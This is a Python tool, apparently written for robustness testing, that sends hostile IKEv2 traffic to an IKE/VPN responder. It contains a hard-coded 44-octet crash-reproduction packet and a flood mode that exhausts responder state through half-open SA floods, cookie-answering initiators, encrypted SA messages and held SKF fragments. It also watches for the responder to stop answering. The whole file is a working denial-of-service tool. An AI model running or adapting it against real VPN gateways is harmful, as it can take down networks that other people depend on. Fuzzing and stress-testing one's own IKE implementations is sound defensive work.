#!/usr/bin/python3
"""ike-hostile.py: sends hostile IKEv2 datagrams to an IKE responder (t-66).

  ike-hostile.py repro --target ADDR --source ADDR
      The 44-octet COOKIE-only IKE_SA_INIT request, then a probe: exit 0 when the
      responder still answers, 2 when it does not.
  ike-hostile.py flood --target ADDR --source ADDR [--sources A,B,...]
                       [--total N] [--half-open N] [--cookie-sas N]
                       [--encrypted-sas N] [--psk PSK] [--pin-sas N [--pin-size B]]
                       [--seed N] [--report FILE]
      Half-open IKE_SAs whose initiators return the responder's COOKIE, valid
      IKE_SA_INITs never completed from --sources (a new source port each),
      (with python3-cryptography) messages encrypted with the keys of half-open
      or, with --psk, authenticated IKE_SAs (see hostile_sa.py), then stateless
      hostile datagrams of the kinds in ike_kinds.py (UDP 500 and 4500) up to
      --total datagrams in all. --pin-sas N: N more keyed half-open IKE_SAs
      each send 63 of 64 SKF fragments of B (60000) octets, which the
      responder's reassembly holds until its half-open time-out.

The responder must answer an IKE_SA_INIT request from --source (a conn with
right=%any or right=SOURCE). After every BATCH datagrams to one port the sender
waits until the responder answers a probe on that port (an IKE_SA_INIT whose
KE group is not the proposal's: INVALID_KE_PAYLOAD or COOKIE, no state), so
that the responder's socket buffer never overflows and every datagram is read.
Prints what was sent and answered, per kind, and the rate; --report writes the
same as JSON. Exit status: 0 when the probes were answered to the end, 2 when
the responder stopped answering, 1 on bad usage.
"""
import argparse
import collections
import json
import os
import random
import select
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ike_kinds  # noqa: E402
import ikewire as w  # noqa: E402

# A Linux UDP socket buffer (net.core.rmem_default 212992) holds about 100 small
# datagrams (each costs its skb's truesize) or one of 64 KiB.
BATCH = 48
BATCH_BYTES = 48000
NOTIFY_NAMES = {7: "INVALID_SYNTAX", 14: "NO_PROPOSAL_CHOSEN", 17: "INVALID_KE_PAYLOAD",
                24: "AUTHENTICATION_FAILED", 16390: "COOKIE", 4: "INVALID_MAJOR_VERSION",
                5: "INVALID_SYNTAX?", 9: "INVALID_MESSAGE_ID", 11: "INVALID_SPI"}


class ResponderGone(Exception):
    pass


def udp_socket(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    s.bind((addr, 0))
    return s


class Sender:
    def __init__(self, src, dst):
        self.src, self.dst = src, dst
        self.socks = {500: udp_socket(src), 4500: udp_socket(src)}
        self.sent = collections.Counter()
        self.replies = collections.Counter()
        self.pending = {500: 0, 4500: 0}
        self.pending_bytes = {500: 0, 4500: 0}
        self.probes = self.probe_resends = 0
        self.rng = random.Random()
        self.known = []  # (spi_i, spi_r) of half-open IKE_SAs of this sender
        self.extra = []  # sockets of this batch that are not the two above

    # --- sending, and waiting until the responder read it all ---
    def send(self, kind, port, data, sock=None):
        # at most BATCH datagrams or BATCH_BYTES (one jumbo alone) queued per port
        if self.pending_bytes[port] + len(data) > BATCH_BYTES and self.pending[port]:
            self.sync(port)
        (sock or self.socks[port]).sendto(data, (self.dst, port))
        self.sent[kind] += 1
        self.pending[port] += 1
        self.pending_bytes[port] += len(data)
        if self.pending[port] >= BATCH:
            self.sync(port)

    def classify(self, data, port):
        if port == 4500:
            if data[:4] != w.NON_ESP_MARKER:
                return None
            data = data[4:]
        p = w.parse(data)
        if p is None:
            return "unparsable", None
        ns = w.notifies(p[5])
        if p[2] == w.IKE_SA_INIT and any(t == w.PL_SA for t, _ in p[5]):
            name = "IKE_SA_INIT response"
        elif any(t == w.PL_SK for t, _ in p[5]):
            name = "SK %d response" % p[2]
        elif ns:
            name = NOTIFY_NAMES.get(ns[0][0], "N(%d)" % ns[0][0])
        else:
            name = "other"
        return name, p

    def drain(self, sock, port, want_spi=None, probe=False):
        """Reads what sock has; returns the parsed answer whose SPIi is want_spi."""
        found = None
        while True:
            try:
                data = sock.recv(70000, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return found
            except ConnectionRefusedError:
                continue
            c = self.classify(data, port)
            if c is None:
                continue
            name, p = c
            if p is not None and want_spi is not None and p[0] == want_spi:
                found = (name, p, data)
                if probe:
                    continue  # the probes' answers are not counted per kind
            self.replies[name] += 1

    def wait_for(self, sock, port, spi, timeout, probe=False):
        end = time.monotonic() + timeout
        while True:
            got = self.drain(sock, port, spi, probe)
            if got:
                return got
            left = end - time.monotonic()
            if left <= 0:
                return None
            select.select([sock], [], [], left)

    def sync(self, port):
        """A probe on `port`; returns when it is answered (all before it was read)."""
        sock = self.socks[port]
        spi = self.rng.getrandbits(64) | 1
        probe = w.ike_sa_init(spi, os.urandom(32), os.urandom(32), (self.src, 0),
                              (self.dst, port), group=14)
        if port == 4500:
            probe = w.NON_ESP_MARKER + probe
        for attempt in range(6):
            sock.sendto(probe, (self.dst, port))
            self.probes += 1
            self.probe_resends += attempt > 0
            if self.wait_for(sock, port, spi, 1.0 + attempt, True):
                break
        else:
            raise ResponderGone("no answer to the probe on UDP %d after 6 tries" % port)
        for s in self.extra:
            self.drain(s, 500)
            s.close()
        self.extra = []
        self.drain(self.socks[500 if port == 4500 else 4500], 4500 if port == 500 else 500)
        self.pending[port] = self.pending_bytes[port] = 0

    def flush(self):
        for port in (500, 4500):
            if self.pending[port]:
                self.sync(port)

    # --- IKE_SA_INITs that open half-open IKE_SAs ---
    def open_sa(self, sock, kind, keypair=None, nonce=None):
        """Sends a valid IKE_SA_INIT from sock (answering a COOKIE request once);
        returns (spi_i, payloads of the answer, request, nonce) or None."""
        self.flush()
        spi = self.rng.getrandbits(64) | 1
        nonce = nonce or os.urandom(32)
        public = keypair.public if keypair else os.urandom(32)
        src = sock.getsockname()
        cookie = None
        for _ in range(2):
            req = w.ike_sa_init(spi, public, nonce, src, (self.dst, 500), cookie)
            sock.sendto(req, (self.dst, 500))
            self.sent[kind] += 1
            got = self.wait_for(sock, 500, spi, 10.0)
            if not got:
                return None
            name, p, _ = got
            if name == "COOKIE":
                cookie = w.notifies(p[5])[0][1]
                continue
            if name != "IKE_SA_INIT response":
                return None
            return spi, p[1], p[5], req, nonce
        return None

    def half_open_flood(self, sources, count):
        """count IKE_SA_INITs, each from a new socket (source port) on one of sources."""
        for i in range(count):
            s = udp_socket(sources[i % len(sources)])
            src = s.getsockname()
            spi = self.rng.getrandbits(64) | 1
            self.extra.append(s)
            self.send("half-open", 500, w.ike_sa_init(spi, os.urandom(32), os.urandom(32), src,
                                                      (self.dst, 500)), s)
        self.flush()

    def cookie_sas(self, sources, count):
        """count half-open IKE_SAs whose initiators answer the COOKIE request."""
        opened = 0
        for i in range(count):
            s = udp_socket(sources[i % len(sources)])
            r = self.open_sa(s, "half-open-with-cookie")
            s.close()
            if r:
                opened += 1
                self.known.append((r[0], r[1]))
        return opened


def report(sender, started, extra):
    secs = time.monotonic() - started
    total = sum(sender.sent.values())
    out = {"sent": dict(sorted(sender.sent.items())), "total": total,
           "replies": dict(sorted(sender.replies.items())), "probes": sender.probes,
           "probe_resends": sender.probe_resends, "seconds": round(secs, 1),
           "rate": round(total / secs) if secs else 0}
    out.update(extra)
    for k, v in out["sent"].items():
        print("sent %-28s %6d" % (k, v))
    for k, v in out["replies"].items():
        print("answer %-26s %6d" % (k, v))
    print("total %d datagrams in %.1f s (%d/s), %d probes (%d resent)" %
          (total, secs, out["rate"], sender.probes, sender.probe_resends))
    for k, v in extra.items():
        print("%s: %s" % (k, v))
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("mode", choices=["repro", "flood"])
    ap.add_argument("--target", required=True)
    ap.add_argument("--source", required=True)
    ap.add_argument("--sources", default="")
    ap.add_argument("--total", type=int, default=20000)
    ap.add_argument("--half-open", type=int, default=2000)
    ap.add_argument("--cookie-sas", type=int, default=200)
    ap.add_argument("--encrypted-sas", type=int, default=40)
    ap.add_argument("--psk", default=None)
    ap.add_argument("--pin-sas", type=int, default=0)
    ap.add_argument("--pin-size", type=int, default=60000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--report")
    a = ap.parse_args()

    sender = Sender(a.source, a.target)
    sender.rng.seed(a.seed)
    started = time.monotonic()
    extra = {}
    try:
        if a.mode == "repro":
            repro = bytes.fromhex("1122334455667788000000000000000029202208000000000000002c"
                                  "00000010000040064141414141414141")
            sender.send("cookie-only-init-44-octets", 500, repro)
            sender.sync(500)
        else:
            sources = a.sources.split(",") if a.sources else [a.source]
            rng = random.Random(a.seed)
            ctx = type("Ctx", (), {})()
            ctx.src, ctx.dst = (a.source, sender.socks[500].getsockname()[1]), (a.target, 500)
            ctx.known = sender.known
            sender.sa_sources = sources
            phase = time.monotonic()

            def lap(name):
                nonlocal phase
                now = time.monotonic()
                extra["seconds_" + name] = round(now - phase, 1)
                phase = now

            extra["cookie_sas_opened"] = sender.cookie_sas(sources, a.cookie_sas)
            lap("cookie_sas")
            sender.half_open_flood(sources, a.half_open)
            lap("half_open")
            if a.encrypted_sas:
                import hostile_sa
                extra.update(hostile_sa.run(sender, a.encrypted_sas, a.psk))
            lap("encrypted")
            if a.pin_sas:
                import hostile_sa
                extra.update(hostile_sa.pin(sender, a.pin_sas, a.pin_size))
                lap("pin")
            stateless = max(a.total - sum(sender.sent.values()), 0)
            for i, name in enumerate(ike_kinds.plan(stateless, rng)):
                if i % 4000 == 0:  # fresh half-open IKE_SAs to aim at (30 s timeout)
                    del sender.known[:]
                    sender.cookie_sas(sources, 4)
                port, data = ike_kinds.generate(name, rng, ctx)
                sender.send(name, port, data)
            sender.flush()
            lap("stateless")
    except ResponderGone as e:
        print("ike-hostile: the responder stopped answering: %s" % e)
        out = report(sender, started, extra)
        if a.report:
            json.dump(out, open(a.report, "w"), indent=1)
        return 2
    out = report(sender, started, extra)
    if a.report:
        with open(a.report, "w") as f:
            json.dump(out, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
